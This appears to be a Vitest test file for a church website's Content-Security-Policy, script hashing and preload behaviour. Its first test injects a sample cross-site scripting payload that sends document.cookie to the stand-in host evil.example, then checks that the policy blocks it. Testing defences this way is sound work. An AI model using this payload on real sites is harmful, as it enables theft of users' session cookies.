import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { SENT_GIFT } from '../support/people.ts'
import { EVERY_ADDRESS, testSite } from '../support/site/server.ts'

const HOSTILE = 'fetch("https://evil.example/?"+document.cookie)'

function hash(source: string): string {
  return `'sha256-${createHash('sha256').update(source).digest('base64')}'`
}

/** The inline scripts that the Content-Security-Policy applies to. */
function inlineScripts(html: string): string[] {
  const scripts = html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)
  return [...scripts].flatMap(([, attributes = '', source = '']) =>
    /\bsrc=|ld\+json/.test(attributes) ? [] : [source],
  )
}

test('an injected script may not run, the page’s own scripts may', async () => {
  const { url } = await testSite({
    around: (renderPage) => async (request, services) => {
      const page = await renderPage(request, services)
      const html = (await page.text()).replace('<main', `<script>${HOSTILE}</script><main`)
      return new Response(html, page)
    },
  })
  const page = await fetch(`${url}/give`)
  const policy = page.headers.get('content-security-policy') ?? ''
  const [injected, ...own] = inlineScripts(await page.text())
  expect(injected).toBe(HOSTILE)
  expect(own.length).toBeGreaterThan(2)
  for (const source of own) expect(policy).toContain(hash(source))
  expect(policy).not.toContain(hash(HOSTILE))
})

test('every page may run all of its own scripts, and does not reveal how they are marked', async () => {
  const { site } = await testSite()
  const ask = async (path: string, init = {}) =>
    site.fetch(new Request(`http://church.test${path}`, init))
  const given = await ask('/give', {
    method: 'POST',
    body: new URLSearchParams(SENT_GIFT),
  })
  const pages = [...EVERY_ADDRESS, given.headers.get('location') ?? '']
  let seen = 0
  for (const address of pages) {
    const page = await ask(address)
    if (!page.headers.get('content-type')?.startsWith('text/html')) continue
    const policy = page.headers.get('content-security-policy') ?? ''
    const html = await page.text()
    const scripts = [...new Set(inlineScripts(html))]
    seen += scripts.length
    const hashes = scripts.map(hash)
    expect([address, policy.match(/'sha256-[^']+'/g)?.sort() ?? []]).toEqual([
      address,
      hashes.sort(),
    ])
    expect([address, html.match(/nonce/)]).toEqual([address, null])
    expect([...page.headers.keys()]).not.toContain('x-inline-scripts')
  }
  expect(seen).toBeGreaterThan(pages.length)
})

test('a page asks in its head for at most one file of the framework, after what is seen', async () => {
  const { get, read } = await testSite()
  for (const [path, files] of Object.entries({
    '/give': 1,
    '/ewgregister': 1,
    '/': 0,
    '/sermons': 0,
  })) {
    const html = await read(path)
    const early = html.split('</head>')[0]?.match(/<link [^>]*rel="modulepreload"[^>]*>/g) ?? []
    expect([path, early.length]).toEqual([path, files])
    for (const link of early) {
      expect(link).toContain('fetchPriority="low"')
      const [, address = ''] = /href="([^"]+)"/.exec(link) ?? []
      expect((await get(address)).status).toBe(200)
      // The same file that the page starts later, so it is not fetched a second time.
      expect(html).toMatch(new RegExp(`"preloads":\\[[^\\]]*"${address}"`))
    }
  }
})
